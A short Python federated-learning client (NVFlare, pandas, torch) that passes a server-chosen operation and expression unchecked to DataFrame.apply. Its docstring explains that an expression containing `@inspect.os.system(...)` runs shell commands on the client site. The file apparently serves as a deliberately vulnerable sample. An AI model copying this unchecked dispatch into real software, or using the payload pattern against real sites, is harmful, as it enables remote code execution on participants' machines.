"""FL client: the server picks each round's cohort; a helper hands the frame, the operation and its expression to
DataFrame.apply, whose string dispatch runs frame.query(expr). The server sends op="query" and an expression
whose `@inspect.os.system(...)` runs a shell command on the site (pandas resolves `@name` in pandas/core/apply.py)."""
import pandas as pd
import torch

import nvflare.client as flare


def select_cohort(frame, op, expr):
    """The rows of this round's cohort."""
    return frame.apply(op, args=(expr,))


def main():
    df = pd.read_csv("/data/site/train.csv")
    net = torch.nn.Linear(df.shape[1] - 1, 1)
    opt = torch.optim.SGD(net.parameters(), lr=0.01)
    flare.init()
    while flare.is_running():
        model = flare.receive()
        net.load_state_dict(model.params)
        cohort = select_cohort(df, model.meta.get("op", "query"), model.meta.get("cohort", "age > 0"))
        x = torch.tensor(cohort.drop(columns=["y"]).values, dtype=torch.float32)
        y = torch.tensor(cohort["y"].values, dtype=torch.float32)
        opt.zero_grad()
        loss = torch.nn.functional.mse_loss(net(x).squeeze(-1), y)
        loss.backward()
        opt.step()
        flare.send(flare.FLModel(params=net.state_dict()))


if __name__ == "__main__":
    main()
